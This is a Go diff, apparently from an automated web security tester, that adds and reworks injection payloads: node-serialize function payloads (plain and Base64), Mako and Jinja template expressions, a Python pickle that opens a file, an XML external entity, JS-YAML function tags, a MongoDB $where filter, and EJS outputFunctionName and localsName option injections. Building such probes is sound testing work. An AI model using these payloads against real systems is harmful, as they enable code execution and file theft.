@@ -24,6 +24,9 @@ const (
 	escaped = `this.constructor.constructor("return pro"+"cess")()["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
 )
 
+// serialized is JSON that node-serialize calls a function of.
+var serialized = `{"x":"_$$ND_FUNC$$_function(){` + strings.ReplaceAll(machine, `"`, `'`) + `}()"}`
+
 // codeForms are the ways to write an expression into a value.
 var codeForms = []form{
 	evaluated("as an expression of Python", python),
@@ -54,12 +57,30 @@ var codeForms = []form{
 	evaluated("in a template of Jinja with its words in codes", `{{ (cycler|attr("\x5f\x5finit\x5f\x5f")|attr("\x5f\x5fglobals\x5f\x5f")).os.open("@",0) }}`),
 	evaluated("in a template of EJS", `<%= process.getBuiltinModule("fs").readFileSync("@") %>`),
 	evaluated("in a string of Python that is formatted", `{open("@")}`),
-	evaluated("in a template of Mako", `${open("@")}`),
-	pickled("as a pickle of Python, in Base64"),
+	evaluated("in a template of Mako", "${"+python+"}"),
+	evaluated("in a template of Python that has braces", "{{ "+python+" }}"),
+	inBase64("as a pickle of Python, in Base64", "cbuiltins\nopen\n(V@\ntR."),
 	evaluated("as an external entity of XML", `<?xml version="1.0"?><!DOCTYPE note [<!ENTITY note SYSTEM "@">]><note>&note;</note>`),
 	evaluated("as YAML of JavaScript", `toString: !!js/function 'function(){return `+machine+`}'`),
 	evaluated("as YAML of JavaScript that is called at once", `note: !!js/function (function(){return `+machine+`})()`),
-	evaluated("as a function of node-serialize", `{"x":"_$$ND_FUNC$$_function(){`+machine+`}()"}`),
+	evaluated("as a function of node-serialize", serialized),
+	inBase64("as a function of node-serialize, in Base64", serialized),
+}
+
+// obeyedForms are for an object that takes any keys, and may be handed on as it is to what obeys some: what a
+// filter evaluates, and names that template engines put into the code that they make.
+var obeyedForms = []form{
+	under("as what a filter evaluates", machine, "$where"),
+	under("as an option of EJS", "x=1;"+machine+";var y", "outputFunctionName"),
+	under("as an option of EJS in the settings of a view", "x=1;"+machine+";var y", "settings", "view options", "outputFunctionName"),
+	under("as an option of EJS for names", "x="+machine, "localsName"),
+}
+
+// under is a form by the keys under which an expression stands.
+func under(name, expression string, keys ...string) form {
+	f := evaluated(name, expression)
+	f.under = keys
+	return f
 }
 
 // formatted is a form whose proof is in the answer: it has a text of Python formatted with an object
@@ -103,6 +124,7 @@ var packed = lazyregexp.New(`(?i)snapshot|payload|pickle|base64|serial|session|d
 func codeSteps(fields []field) (all []step) {
 	fields = slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return f.next || !f.text && !f.number })
 	slices.SortStableFunc(fields, func(a, b field) int { return rankCode(a) - rankCode(b) })
+	all = formed(Code, obeyedForms, keys(fields))
 	for n, form := range codeForms {
 		tried := 0
 		for _, f := range fields {
@@ -136,10 +158,10 @@ func behind(name, expression string) form {
 // file is the one that an expression opens.
 func file(number int) string { return inputs.OutsideFile(number, ".txt") }
 
-// pickled is a form that opens the file when it is unpickled: protocol 0, which is text.
-func pickled(name string) form {
+// inBase64 is a form by what is written in Base64: a pickle of protocol 0 is text.
+func inBase64(name, text string) form {
 	return form{name: name, packed: true, write: func(f field, _ inputs.Mark, number int) string {
-		return f.before + base64.StdEncoding.EncodeToString([]byte("cbuiltins\nopen\n(V"+file(number)+"\ntR.")) + f.behind
+		return f.before + base64.StdEncoding.EncodeToString([]byte(strings.ReplaceAll(text, "@", file(number)))) + f.behind
 	}}
 }
 
